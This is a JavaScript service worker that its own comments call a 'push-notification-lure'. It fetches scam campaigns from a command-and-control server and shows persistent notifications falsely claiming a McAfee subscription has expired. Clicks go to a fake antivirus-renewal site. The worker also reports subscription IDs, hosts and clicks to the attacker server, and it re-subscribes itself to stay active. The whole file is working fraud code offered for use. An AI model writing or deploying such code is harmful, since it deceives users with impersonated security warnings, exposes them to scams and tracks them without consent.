// push-notification-lure: service worker for payload-less pushes; fetches the scam campaign from the network on each wake-up
// async/await worker; identifies itself with its own subscription endpoint, shows brand-impersonating alerts
const C2 = 'https://pn-delivery-cloud.net/v4';
const DEFAULT_CAMPAIGN = {
  title: 'McAfee: Your subscription has expired',
  body: 'Your PC is unprotected. Renew now with 80% discount.',
  icon: 'https://pn-delivery-cloud.net/i/shield.png',
  link: 'https://antivirus-renew-offer.top/?c=default',
};

self.addEventListener('install', (e) => e.waitUntil(self.skipWaiting()));
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));

async function endpointId() {
  const sub = await self.registration.pushManager.getSubscription();
  if (!sub) return 'none';
  return sub.endpoint.split('/').pop();
}

async function nextCampaign() {
  try {
    const id = await endpointId();
    const res = await fetch(`${C2}/next?e=${encodeURIComponent(id)}&h=${self.location.host}`, { credentials: 'omit' });
    if (!res.ok) throw new Error(String(res.status));
    return await res.json();
  } catch {
    return DEFAULT_CAMPAIGN;
  }
}

async function display() {
  const list = [].concat(await nextCampaign());
  await Promise.all(list.slice(0, 3).map((c, i) =>
    self.registration.showNotification(c.title, {
      body: c.body,
      icon: c.icon,
      image: c.image,
      tag: `c${Date.now()}${i}`,
      requireInteraction: true,
      silent: false,
      data: { link: c.link, cid: c.cid },
    })
  ));
}

self.addEventListener('push', (event) => event.waitUntil(display()));

// also wake up on periodic background sync where the browser grants it
self.addEventListener('periodicsync', (event) => {
  if (event.tag === 'content-refresh') event.waitUntil(display());
});

self.addEventListener('notificationclick', (event) => {
  const { link, cid } = event.notification.data || {};
  event.notification.close();
  event.waitUntil((async () => {
    fetch(`${C2}/click?c=${cid || 0}`, { mode: 'no-cors' }).catch(() => {});
    const url = link || DEFAULT_CAMPAIGN.link;
    const wins = await self.clients.matchAll({ type: 'window', includeUncontrolled: true });
    if (wins.length && 'navigate' in wins[0]) {
      await wins[0].navigate(url).catch(() => self.clients.openWindow(url));
      return wins[0].focus();
    }
    return self.clients.openWindow(url);
  })());
});

self.addEventListener('pushsubscriptionchange', (event) => {
  event.waitUntil((async () => {
    const sub = await self.registration.pushManager.subscribe(event.oldSubscription.options);
    await fetch(`${C2}/resub`, { method: 'POST', body: JSON.stringify(sub) });
  })());
});
